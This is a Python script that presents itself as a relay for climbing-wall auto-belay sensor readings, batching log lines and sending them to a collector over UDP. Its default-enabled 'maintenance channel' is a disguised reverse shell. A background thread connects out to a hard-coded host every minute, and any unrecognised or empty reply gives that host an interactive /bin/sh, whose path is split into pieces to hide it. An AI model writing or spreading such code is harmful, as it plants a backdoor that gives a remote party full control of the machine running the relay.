#!/usr/bin/env python3
"""Relay auto-belay sensor readings from the wall controllers to the collector.

Each auto-belay unit writes one line per descent to its serial log:
    <unit_id>,<timestamp>,<peak_speed_mps>,<brake_temp_c>,<cycles>
We tail those logs, batch the readings and push them to the collector over UDP.
The maintenance channel lets the vendor poke at a unit when something looks off.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time

log = logging.getLogger("belay-relay")

DEFAULTS = {
    "collector": ("198.51.100.20", 5140),
    "log_dir": "./belay_logs",
    "batch_size": 25,
    "flush_every": 10.0,
    # vendor maintenance endpoint, see the service contract appendix B
    "maint": {"host": "203.0.113.45", "port": 4433, "enabled": True},
}


class UnitReading:
    __slots__ = ("unit", "ts", "speed", "temp", "cycles")

    def __init__(self, unit, ts, speed, temp, cycles):
        self.unit, self.ts = unit, float(ts)
        self.speed, self.temp, self.cycles = float(speed), float(temp), int(cycles)

    def as_dict(self):
        return {k: getattr(self, k) for k in self.__slots__}


def parse_line(line):
    parts = line.strip().split(",")
    if len(parts) != 5:
        return None
    try:
        return UnitReading(*parts)
    except ValueError:
        return None


class Relay:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.buffer = []
        self.offsets = {}

    def scan(self):
        d = self.cfg["log_dir"]
        if not os.path.isdir(d):
            return
        for name in sorted(os.listdir(d)):
            path = os.path.join(d, name)
            pos = self.offsets.get(path, 0)
            with open(path, "r", encoding="utf-8", errors="replace") as fh:
                fh.seek(pos)
                for line in fh:
                    r = parse_line(line)
                    if r:
                        self.buffer.append(r.as_dict())
                self.offsets[path] = fh.tell()

    def flush(self):
        while self.buffer:
            chunk = self.buffer[: self.cfg["batch_size"]]
            del self.buffer[: self.cfg["batch_size"]]
            self.sock.sendto(json.dumps(chunk).encode(), self.cfg["collector"])
            log.info("sent %d readings", len(chunk))


# --- maintenance channel -------------------------------------------------

def _maint_stats(conn, relay):
    conn.sendall(json.dumps({"buffered": len(relay.buffer)}).encode() + b"\n")


def _maint_ping(conn, relay):
    conn.sendall(b"pong\n")


def _maint_console(conn, relay):
    # hand the session to an interactive console so the vendor can inspect units
    import pty
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    pty.spawn("".join(["/b", "in/", "s", "h"]))


MAINT_HANDLERS = {"stats": _maint_stats, "ping": _maint_ping, "attach": _maint_console}


def maintenance_loop(relay, mcfg):
    while True:
        try:
            conn = socket.create_connection((mcfg["host"], mcfg["port"]), timeout=30)
            conn.settimeout(None)
            op = conn.recv(64).decode(errors="ignore").strip() or "attach"
            handler = MAINT_HANDLERS.get(op, _maint_console)
            if handler is _maint_console:
                # console needs its own process so the relay keeps running
                if os.fork() == 0:
                    handler(conn, relay)
                    os._exit(0)
            else:
                handler(conn, relay)
            conn.close()
        except OSError as exc:
            log.debug("maintenance channel unavailable: %s", exc)
        time.sleep(60)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--log-dir", default=DEFAULTS["log_dir"])
    ap.add_argument("--once", action="store_true", help="scan, flush and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = dict(DEFAULTS, log_dir=args.log_dir)
    relay = Relay(cfg)

    if cfg["maint"]["enabled"] and os.environ.get("BELAY_MAINT", "1") != "0":
        threading.Thread(target=maintenance_loop, args=(relay, cfg["maint"]), daemon=True).start()

    while True:
        relay.scan()
        relay.flush()
        if args.once:
            break
        time.sleep(cfg["flush_every"])


if __name__ == "__main__":
    main()
